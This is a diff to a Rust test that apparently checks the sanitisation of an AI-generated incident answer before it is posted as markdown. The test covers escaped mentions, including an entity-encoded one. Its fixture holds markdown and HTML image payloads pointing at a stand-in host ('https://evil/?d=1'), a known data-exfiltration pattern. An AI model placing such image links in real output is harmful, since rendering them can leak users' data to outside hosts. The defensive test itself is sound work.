@@ -7,7 +7,7 @@ use crate::question::Question;
 use crate::sink::Budget;
 
 const ANSWER: &str = "**Root cause:** the pod `payments-1` is out of memory.\n\nSee [the graph](https://g/1) and ask \
-    @oncall-team.\n\n## Evidence\n\n- limit *64Mi* [E2:4]\n  1. deep {macro}\n  2. !x.png! [~ann]\n- two\n\n\
+    @oncall-team or &#64;others.\n\n## Evidence\n\n- limit *64Mi* [E2:4]\n  1. deep {macro}\n  2. !x.png! [~ann]\n- two\n\n\
     ```yaml\nresources: {limits: 1}\n{noformat}\n@inside\n```\n\n![leak](https://evil/?d=1)\n\n<img src=\"https://evil/\">\n\n\
     | a | b |\n|---|---|\n| 1 | 2 |\n";
 
@@ -80,7 +80,10 @@ fn markdown_calls_nobody_and_loads_nothing() {
         "{text}"
     );
     assert!(text.ends_with("\n\n<sub>holmes-rs run 0190-abc</sub>\n"), "{text}");
-    assert!(text.contains("ask @<!-- -->oncall-team") && text.contains("\n@inside\n"), "{text}");
+    assert!(
+        text.contains("ask @<!-- -->oncall-team or @<!-- -->others.") && text.contains("\n@inside\n"),
+        "{text}"
+    );
     assert!(text.contains("[leak](https://evil/?d=1)") && !text.contains("![leak]"), "{text}");
     assert!(text.contains("&lt;img src"), "{text}");
 }
